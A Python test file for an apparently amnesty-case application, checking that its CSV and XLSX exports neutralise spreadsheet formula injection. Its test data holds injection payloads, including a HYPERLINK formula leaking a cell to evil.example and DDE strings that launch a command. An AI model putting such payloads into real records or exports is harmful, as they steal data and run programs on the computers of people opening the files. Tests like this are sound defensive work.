"""Formula injection: names, case numbers and person ids that a spreadsheet would run as formulas are
neutralised in every CSV and XLSX export (OWASP CSV injection), and stay readable; numbers stay numbers."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from amnesty.cli.main import app as cli
from amnesty.io.safe_cells import FORMULA_TRIGGERS, neutralise, safe_cell
from amnesty.jobs.outputs import REJECTED_COLUMNS, csv_text
from amnesty.reports.tables import Table, write_csv, write_xlsx
from tests.service.conftest import _record

runner = CliRunner()
EVIL = {
    "person_id": '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
    "full_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "case_number": "+1+cmd|' /C calc'!A0",
}
EVIL_TOO = {"person_id": "-2+3", "full_name": "\tTab Person", "case_number": "=2*3"}


def _evil_records() -> list[dict[str, Any]]:
    return [
        _record(EVIL["person_id"], full_name=EVIL["full_name"], case_number=EVIL["case_number"]),
        _record(EVIL_TOO["person_id"], full_name=EVIL_TOO["full_name"], case_number=EVIL_TOO["case_number"]),
    ]


NUMBER = re.compile(r"^[-+]?\d+(\.\d+)?([eE][-+]?\d+)?$")


def _assert_safe_text(value: object, where: str) -> None:
    """A text cell must not start like a formula (a plain number such as -5 is a number, not text)."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS) and not NUMBER.match(value):
        raise AssertionError(f"{where}: live formula-like cell {value!r}")


def _csv_cells(path: Path | str, text: str | None = None) -> Iterator[tuple[str, str]]:
    content = text if text is not None else Path(path).read_text(encoding="utf-8-sig")
    for number, row in enumerate(csv.reader(io.StringIO(content)), start=1):
        for cell in row:
            yield f"{path} row {number}", cell


def _xlsx_cells(path: Path | bytes) -> Iterator[tuple[str, Any, str]]:
    workbook = openpyxl.load_workbook(io.BytesIO(path) if isinstance(path, bytes) else path)
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                yield f"{sheet.title}!{cell.coordinate}", cell.value, cell.data_type


def _check_csv(path: Path | str, text: str | None = None) -> list[str]:
    cells = []
    for where, cell in _csv_cells(path, text):
        _assert_safe_text(cell, where)
        cells.append(cell)
    return cells


def _check_xlsx(path: Path | bytes) -> list[Any]:
    values = []
    for where, value, kind in _xlsx_cells(path):
        assert kind != "f", f"{where}: formula {value!r}"
        _assert_safe_text(value, where)
        values.append(value)
    return values


def test_the_one_function_neutralises_text_only() -> None:
    for trigger in FORMULA_TRIGGERS:
        assert neutralise(f"{trigger}x") == f"'{trigger}x"
    assert neutralise("Айгерим Жанұзақова") == "Айгерим Жанұзақова"
    assert neutralise("a=b") == "a=b"
    assert safe_cell(-5) == -5
    assert safe_cell(-2.5) == -2.5
    assert safe_cell(None) is None


def test_report_and_impact_tables_keep_numbers_and_neutralise_text(tmp_path: Path) -> None:
    table = Table(
        "by_region", ("region", "persons", "change"), (("=cmd|' /C calc'!A0", 3, -5), ("@x", 0, -1.5))
    )
    cells = _check_csv(write_csv(table, tmp_path / "t.csv"))
    assert "'=cmd|' /C calc'!A0" in cells
    assert "-5" in cells
    values = _check_xlsx(write_xlsx([table], tmp_path / "t.xlsx"))
    assert -5 in values
    assert -1.5 in values
    assert "'@x" in values


@pytest.fixture(scope="module")
def evil_file(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("evil") / "evil.jsonl"
    broken = {"person_id": "=1+1", "full_name": "=2+2", "stage": "serving"}  # rejected: no charges
    lines = [json.dumps(r, ensure_ascii=False) for r in [*_evil_records(), broken]]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def test_batch_decisions_and_rejected_csv(evil_file: Path, tmp_path: Path) -> None:
    out = tmp_path / "batch"
    result = runner.invoke(cli, ["batch", str(evil_file), "--out", str(out)])
    assert result.exit_code == 1, result.output  # one row rejected
    decided = _check_csv(out / "decisions.csv")
    assert "'" + EVIL["person_id"] in decided
    assert "'-2+3" in decided
    rejected = _check_csv(out / "rejected.csv")
    assert "'=1+1" in rejected


def test_tasks_xlsx_of_the_command_line(evil_file: Path, tmp_path: Path) -> None:
    good = tmp_path / "good.jsonl"
    good.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in _evil_records()), "utf-8")
    out = tmp_path / "tasks.xlsx"
    result = runner.invoke(cli, ["tasks-export", str(good), "--out", str(out)])
    assert result.exit_code == 0, result.output
    values = _check_xlsx(out)
    assert "'" + EVIL["full_name"] in values
    assert "'" + EVIL["person_id"] in values
    assert "'\tTab Person" in values


def test_report_and_impact_outputs_of_the_command_line(evil_file: Path, tmp_path: Path) -> None:
    good = tmp_path / "good.jsonl"
    good.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in _evil_records()), "utf-8")
    decisions = tmp_path / "decisions.json"
    evaluated = runner.invoke(cli, ["evaluate", str(good)])
    assert evaluated.exit_code == 0
    decisions.write_text(evaluated.stdout, encoding="utf-8")
    report = runner.invoke(
        cli, ["report", str(decisions), "--records", str(good), "--out", str(tmp_path / "r")]
    )
    assert report.exit_code == 0, report.output
    variant = tmp_path / "variant.yaml"
    variant.write_text('relief:\n  reduction:\n    grave: "1/2"\n', encoding="utf-8")
    impact = runner.invoke(
        cli, ["impact", str(good), "--variant", str(variant), "--out", str(tmp_path / "i")]
    )
    assert impact.exit_code == 0, impact.output
    files = [*tmp_path.glob("r/*.csv"), *tmp_path.glob("i/*.csv")]
    workbooks = [*tmp_path.glob("r/*.xlsx"), *tmp_path.glob("i/*.xlsx")]
    assert files
    assert workbooks
    for path in files:
        _check_csv(path)
    for path in workbooks:
        _check_xlsx(path)


def test_web_batch_downloads() -> None:
    lines = [
        {"row": 1, "person_id": EVIL["person_id"], "outcome": "release", "flags": ["-x"]},
    ]
    cells = _check_csv("decisions.csv", csv_text(lines, ("row", "person_id", "outcome", "flags")))
    assert "'" + EVIL["person_id"] in cells
    rejected = [{"row": 1, "person_id": "@evil", "field": "=f", "problem": "-p"}]
    assert "'@evil" in _check_csv("rejected.csv", csv_text(rejected, REJECTED_COLUMNS))


def test_web_tasks_export(fresh_url: str, anchor_file: Path) -> None:
    from amnesty.app import create_app
    from amnesty.auth import Role, create_user

    app = create_app(fresh_url)
    with app.state.sessions() as db:
        create_user(db, "sec-admin", "a-long-test-password", Role.ADMIN)
        create_user(db, "sec-social", "a-long-test-password", Role.SOCIAL_WORKER, "Almaty")
        db.commit()
    with TestClient(app) as client:
        token = client.post(
            "/api/auth/token", json={"username": "sec-admin", "password": "a-long-test-password"}
        )
        headers = {"Authorization": f"Bearer {token.json()['access_token']}"}
        imported = client.post("/api/import", json=_evil_records(), headers=headers)
        assert imported.status_code == 201, imported.text
        signed = client.post(
            "/signin",
            data={"username": "sec-social", "password": "a-long-test-password"},
            follow_redirects=False,
        )
        assert signed.status_code == 303, signed.text
        response = client.get("/tasks/export.xlsx?region=Almaty")
        assert response.status_code == 200, response.text
    values = _check_xlsx(response.content)
    assert "'" + EVIL["person_id"] in values
    app.state.engine.dispose()
